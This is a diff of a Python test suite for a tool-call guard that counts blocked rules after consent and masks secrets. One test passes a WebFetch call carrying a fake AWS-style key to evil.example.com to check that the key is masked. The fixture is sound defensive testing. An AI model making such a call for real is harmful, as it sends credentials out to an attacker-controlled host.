@@ -38,7 +38,7 @@ from interlock.node.roles.observe import TallyObserver, keep_catalog, kept_catal
 from interlock.node.roles.report import BACKLOG_MOST, MECHANISM, Sent, agree, ledger
 from interlock.node.storage.node import NodeStore, OutboxRow, OutboxState, open_store
 from tests.unit.dap_world import LENGTH, PRECISION
-from tests.unit.report_world import CALL, RULES, CountedWorld, Line, Member, catalog, down
+from tests.unit.report_world import CALL, RULES, CountedWorld, Line, Member, catalog, down, terms
 
 ROOT = Path(__file__).resolve().parents[2]
 Enrol = Callable[[str], Member]
@@ -141,7 +141,7 @@ def test_what_came_before_consent_is_not_counted(enrol: Enrol) -> None:
 def test_a_consent_that_lies_ahead_counts_from_then_on(enrol: Enrol) -> None:
     member = enrol("acme")
     keep_catalog(member.home, member.catalog, time_precision=PRECISION)
-    give_consent(member.home, member.catalog, member.world.clock.now_us() + 1_000_000)
+    give_consent(member.home, terms(member.catalog), member.world.clock.now_us() + 1_000_000)
     member.blocked(0)
     member.world.clock.advance(1)
     member.blocked(1)
@@ -183,7 +183,7 @@ def test_an_epoch_that_began_before_its_catalog_opened_does_not_count(tmp_path: 
 
 def test_a_consent_to_another_catalog_of_the_task_counts_nothing(member: Member) -> None:
     changed = build_catalog(member.catalog.task, opens_at=0, rules=[*RULES[1:], "other"])
-    give_consent(member.home, changed, member.world.clock.now_us())
+    give_consent(member.home, terms(changed), member.world.clock.now_us())
     member.blocked(1)
     assert member.bits() == frozenset()
     with pytest.raises(NoConsent, match="changed since it was consented to"):
@@ -493,7 +493,7 @@ def test_a_new_catalogs_places_outlive_the_old_ones_queue(world: CountedWorld, m
     world.clock.advance(PRECISION)
     changed = build_catalog(member.catalog.task, opens_at=0, rules=[*RULES[1:], "other"])
     keep_catalog(member.home, changed, time_precision=PRECISION)
-    give_consent(member.home, changed, world.clock.now_us())
+    give_consent(member.home, terms(changed), world.clock.now_us())
     member.blocked(1)
     assert member.send() == Sent(dropped=1)
     start = world.task.start_us(world.task.time_of(world.clock.now_us()))
@@ -522,7 +522,7 @@ def test_a_task_that_counts_another_number_of_places_is_refused(tmp_path: Path) 
     short = build_catalog("rules-1", opens_at=0, rules=RULES[1:])
     world = CountedWorld(tmp_path, short)
     with pytest.raises(TaskRefused, match="counts 16 places of a catalog of 15"):
-        agree(tmp_path, world.task, short, 0)
+        agree(tmp_path, open_store(tmp_path), world.task, short, 0)
     world.close()
 
 
@@ -613,8 +613,8 @@ from pathlib import Path
 from interlock.node.storage.node import open_store
 store = open_store(Path(sys.argv[1]))
 for place in range(int(sys.argv[2]), 200, 2):
-    store.add_bits("rules-1", "c", 0, [place])
-    store.add_bits("rules-1", "c", 0, [0])
+    store.add_bits("rules-1", "c", (0, 1), {place: f"rule:{place}"})
+    store.add_bits("rules-1", "c", (0, 1), {0: "rule:0"})
 store.close()
 """
 
@@ -695,7 +695,7 @@ def test_a_guarded_process_marks_the_rule_that_blocked_and_the_host_it_named(gua
     home, counted = guarded
     attack()
     assert seen(home, counted) == set()
-    give_consent(home, counted, 0)
+    give_consent(home, terms(counted), 0)
     interlock.enforce_tool_call("Bash", {"command": "curl https://good.example.com/"})
     attack()
     (rule,) = {place for place in seen(home, counted) if place.startswith("rule:")}
@@ -705,7 +705,7 @@ def test_a_guarded_process_marks_the_rule_that_blocked_and_the_host_it_named(gua
 
 def test_a_guarded_process_never_marks_what_it_masks(guarded: tuple[Path, Catalog]) -> None:
     home, counted = guarded
-    give_consent(home, counted, 0)
+    give_consent(home, terms(counted), 0)
     secret = "AKIA" + "IOSFODNN7" + "EXAMPLQ"
     args = {"url": "https://evil.example.com/", "prompt": f"key {secret}"}
     assert secret not in str(interlock.enforce_tool_call("WebFetch", args))
